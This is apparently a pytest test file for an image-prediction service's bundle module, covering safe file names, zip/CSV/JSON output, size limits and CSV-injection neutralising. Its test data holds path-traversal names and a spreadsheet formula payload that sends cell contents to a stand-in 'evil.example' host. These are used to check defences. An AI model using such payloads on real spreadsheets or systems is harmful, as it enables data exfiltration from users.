"""bundles.py alone: the /predict answer in, zip / JSON / CSV bytes out."""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from service.bundles import (
    FORMATS,
    UNLABELED,
    csv_safe,
    csv_unsafe,
    make_bundle,
    safe_name,
    safe_names,
    spool_bundle,
    to_csv,
    to_zip,
    write_bundle,
)
from service.errors import RequestError

LABELS = ["cat", "dog", "a/b"]


def answer(*rows: tuple[str, list[str], list[float]], labels: list[str] = LABELS) -> dict:
    return {
        "model": "m",
        "version": "v1",
        "which": "best",
        "labels": labels,
        "count": len(rows),
        "images": [
            {
                "filename": name,
                "scores": dict(zip(labels, scores, strict=True)),
                "predicted": predicted,
                "above": {label: label in predicted for label in labels},
                "thresholds": dict.fromkeys(labels, 0.5),
            }
            for name, predicted, scores in rows
        ],
    }


TWO = answer(("x.jpg", ["cat", "a/b"], [0.9, 0.1, 0.75]), ("y.png", [], [0.2, 0.3, 0.4]))


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("photo.jpg", "photo.jpg"),
        ("../../etc/passwd.jpg", "etc_passwd.jpg"),
        ("/abs/path/img.png", "abs_path_img.png"),
        ("C:\\Users\\me\\pic.jpg", "C__Users_me_pic.jpg"),
        ("cats/1.jpg", "cats_1.jpg"),
        ("..", "image"),
        ("", "image"),
        (".hidden.jpg", "hidden.jpg"),
        ("-rf.jpg", "rf.jpg"),
        ("a\nb\x00c.jpg", "a_b_c.jpg"),
        ("café 1.jpg", "café 1.jpg"),
        ('we"ird<>|name?.jpg', "we_ird_name_.jpg"),
    ],
)
def test_safe_name(given: str, expected: str) -> None:
    assert safe_name(given) == expected


def test_safe_name_keeps_the_suffix_of_long_names() -> None:
    name = safe_name("x" * 300 + ".jpeg")
    assert len(name) == 120 and name.endswith(".jpeg")


def test_safe_names_are_unique_case_insensitively() -> None:
    assert safe_names(["a.jpg", "A.jpg", "a.jpg", "dir/a.jpg", "noext", "noext"]) == [
        "a.jpg",
        "A (2).jpg",
        "a (3).jpg",
        "dir_a.jpg",
        "noext",
        "noext (2)",
    ]


def test_csv_layout() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(TWO).decode())))
    assert rows == [
        ["filename", "label_1", "label_2", "label_3", "score:cat", "score:dog", "score:a/b"],
        ["x.jpg", "cat", "a/b", "", "0.9", "0.1", "0.75"],
        ["y.png", "", "", "", "0.2", "0.3", "0.4"],
    ]


def test_csv_quotes_awkward_names() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(answer(('a,"b".jpg', ["dog"], [0, 1, 0]))).decode())))
    assert rows[1][:2] == ["a_b_.jpg", "dog"]


def test_zip_layout() -> None:
    data = to_zip(TWO, [b"X", b"Y"])
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert sorted(archive.namelist()) == sorted(
        ["cat/x.jpg", "a_b/x.jpg", f"{UNLABELED}/y.png", "predictions.json", "predictions.csv"]
    )
    assert archive.read("cat/x.jpg") == b"X" and archive.read("a_b/x.jpg") == b"X"
    assert archive.read(f"{UNLABELED}/y.png") == b"Y"
    listed = json.loads(archive.read("predictions.json"))
    assert [row["file"] for row in listed["images"]] == ["x.jpg", "y.png"]
    assert listed["labels"] == LABELS
    assert archive.read("predictions.csv") == to_csv(TWO)
    assert archive.getinfo("cat/x.jpg").compress_type == zipfile.ZIP_STORED


def test_zip_is_deterministic() -> None:
    assert to_zip(TWO, [b"X", b"Y"]) == to_zip(TWO, [b"X", b"Y"])


def test_zip_keeps_same_named_images_apart() -> None:
    both = answer(("a.jpg", ["dog"], [0, 1, 0]), ("a.jpg", ["dog"], [0, 0.9, 0]))
    archive = zipfile.ZipFile(io.BytesIO(to_zip(both, [b"first", b"second"])))
    assert archive.read("dog/a.jpg") == b"first" and archive.read("dog/a (2).jpg") == b"second"


def test_label_folders_never_clash() -> None:
    labels = ["_unlabeled", "x/y", "x_y"]
    tricky = answer(("x.jpg", labels, [0.9, 0.9, 0.9]), ("y.png", [], [0.1, 0.1, 0.1]), labels=labels)
    names = set(zipfile.ZipFile(io.BytesIO(to_zip(tricky, [b"X", b"Y"]))).namelist())
    assert {"_unlabeled (2)/x.jpg", "x_y/x.jpg", "x_y (2)/x.jpg", "_unlabeled/y.png"} <= names


def test_zip_needs_one_image_per_prediction() -> None:
    with pytest.raises(ValueError, match="1 images for 2 predictions"):
        to_zip(TWO, [b"X"])


@pytest.mark.parametrize("fmt", FORMATS)
def test_make_bundle(fmt: str) -> None:
    bundle = make_bundle(fmt, TWO, [b"X", b"Y"])
    assert bundle.filename == f"predictions.{fmt}"
    if fmt == "json":
        assert json.loads(bundle.data) == TWO and bundle.media_type == "application/json"


@pytest.mark.parametrize("fmt", FORMATS)
def test_write_and_spool_give_make_bundles_bytes(fmt: str, tmp_path: Path) -> None:
    expected = make_bundle(fmt, TWO, [b"X", b"Y"])
    path = tmp_path / expected.filename
    with path.open("wb") as out:
        info = write_bundle(fmt, TWO, [b"X", b"Y"], out)
    assert path.read_bytes() == expected.data and info.size == len(expected.data)
    assert (info.media_type, info.filename) == (expected.media_type, expected.filename)
    spooled = spool_bundle(fmt, TWO, [b"X", b"Y"], spool_bytes=16)  # past 16 bytes it is on disk
    assert spooled.size == len(expected.data) and spooled.media_type == expected.media_type
    assert b"".join(spooled.chunks(chunk_bytes=7)) == expected.data
    assert spooled.file.closed  # chunks() closes it when the last piece is out


# --- size: one copy per predicted label, bounded by max_bytes ---------------------------------------


def test_zip_stores_each_image_once_per_predicted_label_and_nothing_more() -> None:
    data = [os.urandom(10_000), os.urandom(20_000)]
    archive = zipfile.ZipFile(io.BytesIO(zipped := to_zip(TWO, data)))
    stored = [info for info in archive.infolist() if not info.filename.startswith("predictions.")]
    assert sorted(info.file_size for info in stored) == [10_000, 10_000, 20_000]  # x in 2 folders
    assert all(info.compress_type == zipfile.ZIP_STORED for info in stored)
    assert len(zipped) < 40_000 + 2_000  # the three copies plus headers and listings, no other copy


def test_a_bundle_over_max_bytes_is_refused_with_413_before_anything_is_written() -> None:
    out = io.BytesIO()
    with pytest.raises(RequestError, match=r"over the limit of 15,000 bytes") as info:
        write_bundle("zip", TWO, [os.urandom(10_000), b"Y"], out, max_bytes=15_000)
    assert (info.value.status, info.value.field) == (413, "format")
    assert "once per predicted label" in str(info.value) and "format=csv or json" in str(info.value)
    assert out.getvalue() == b""
    with pytest.raises(RequestError, match="the csv bundle would take") as info:
        make_bundle("csv", TWO, max_bytes=10)
    assert info.value.status == 413


def test_no_bundle_written_is_over_max_bytes() -> None:
    """The size is computed from the predictions before writing: exactly, below zip64 sizes."""
    labels = ["cät", "dög", "+x"]
    rows = [(f"ïmage {i}.jpg", labels[: i % 4], [0.5, 0.5, 0.5]) for i in range(12)]
    many = answer(*rows, labels=labels)
    images = [os.urandom(300 * i) for i in range(12)]
    actual = len(to_zip(many, images))
    assert len(make_bundle("zip", many, images, max_bytes=actual).data) == actual  # exact
    with pytest.raises(RequestError, match=f"would take {actual:,} bytes"):
        make_bundle("zip", many, images, max_bytes=actual - 1)


class _Pipe(io.RawIOBase):
    """A write-only stream that can tell but not seek (a pipe or socket): zipfile adds descriptors."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override]
        self.data += b
        return len(b)

    def tell(self) -> int:
        return len(self.data)


def test_an_unseekable_output_is_bounded_too() -> None:
    images = [os.urandom(1000), b"Y"]
    refused_at = None
    for max_bytes in range(2_500, 4_000, 8):
        pipe = _Pipe()
        try:
            info = write_bundle("zip", TWO, images, pipe, max_bytes=max_bytes)
        except RequestError:
            refused_at = max_bytes
            continue
        assert len(pipe.data) == info.size <= max_bytes
        assert zipfile.ZipFile(io.BytesIO(bytes(pipe.data))).read("cat/x.jpg") == images[0]
        break
    assert refused_at is not None and max_bytes - info.size < 5 * 8 + 8  # 8 spare bytes a member


def test_making_a_large_zip_bundle_holds_at_most_the_spool_in_memory() -> None:
    """50 images of 200 kB, 10 labels all predicted (threshold 0): a 100 MB bundle of a 10 MB upload."""
    labels = [f"label {i}" for i in range(10)]
    everything = answer(*((f"{i}.jpg", labels, [0.0] * 10) for i in range(50)), labels=labels)
    images = [os.urandom(200_000) for _ in range(50)]  # before tracing: the upload is the caller's
    tracemalloc.start()
    try:
        with spool_bundle("zip", everything, images, spool_bytes=1 << 20, max_bytes=None) as bundle:
            _, peak = tracemalloc.get_traced_memory()
            assert bundle.size > 100_000_000
    finally:
        tracemalloc.stop()
    assert peak < 3 << 20, f"peak {peak / 2**20:.1f} MiB for a {bundle.size / 2**20:.0f} MiB bundle"


def test_make_bundle_holds_one_copy_of_the_bundle() -> None:
    images = [os.urandom(200_000) for _ in range(20)]
    everything = answer(*((f"{i}.jpg", LABELS, [0.0] * 3) for i in range(20)))
    tracemalloc.start()
    try:
        size = len(make_bundle("zip", everything, images).data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size > 12_000_000 and peak < size * 1.1 + (1 << 20)


# --- CSV injection -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),  # so that stripping one quote always gives the original back
        ("cat", "cat"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_safe(cell: str, shown: str) -> None:
    assert csv_safe(cell) == shown
    assert csv_unsafe(csv_safe(cell)) == cell


@pytest.mark.parametrize("cell", ["'quoted by a person.jpg", "'", "cat"])
def test_csv_unsafe_leaves_cells_csv_safe_did_not_write(cell: str) -> None:
    assert csv_unsafe(cell) == cell


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _formula_cells(rows: list[list[str]], n_labels: int) -> list[str]:
    return [
        cell for row in rows for cell in row[: 1 + n_labels] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_csv_neutralises_formulas_in_file_names_and_labels() -> None:
    labels = ["+cmd", "@x", "ok"]
    tricky = answer(
        (FORMULA, ["+cmd", "ok"], [0.9, 0.1, 0.8]), ("+1.jpg", ["@x"], [0.1, 0.9, 0.2]), labels=labels
    )
    rows = list(csv.reader(io.StringIO(to_csv(tricky).decode())))
    assert _formula_cells(rows, len(labels)) == []
    assert rows[1][:3] == [safe_name(FORMULA), "'+cmd", "ok"]  # sanitising already removed the `=`
    assert rows[2][:2] == ["'+1.jpg", "'@x"]
    assert rows[0][-3:] == ["score:+cmd", "score:@x", "score:ok"]  # headers start with `score:`
    assert rows[1][-3:] == ["0.9", "0.1", "0.8"]  # numbers are ours: as they are


def test_csv_neutralises_names_given_as_they_are() -> None:
    """The batch client writes relative paths, not bundle names: those are neutralised too."""
    rows = list(csv.reader(io.StringIO(to_csv(TWO, names=[FORMULA, "-y.png"]).decode())))
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA, "'-y.png"]


def test_the_zips_csv_is_neutralised() -> None:
    labels = ["=1+1", "ok"]
    tricky = answer(("+a.jpg", ["=1+1"], [0.9, 0.1]), labels=labels)
    archive = zipfile.ZipFile(io.BytesIO(to_zip(tricky, [b"A"])))
    rows = list(csv.reader(io.StringIO(archive.read("predictions.csv").decode())))
    assert rows[1][:2] == ["'+a.jpg", "'=1+1"] and _formula_cells(rows, len(labels)) == []
    assert "_1+1/+a.jpg" in archive.namelist()  # folders and members keep their sanitised names


def test_make_bundle_unknown_format() -> None:
    with pytest.raises(ValueError, match="xlsx"):
        make_bundle("xlsx", TWO)
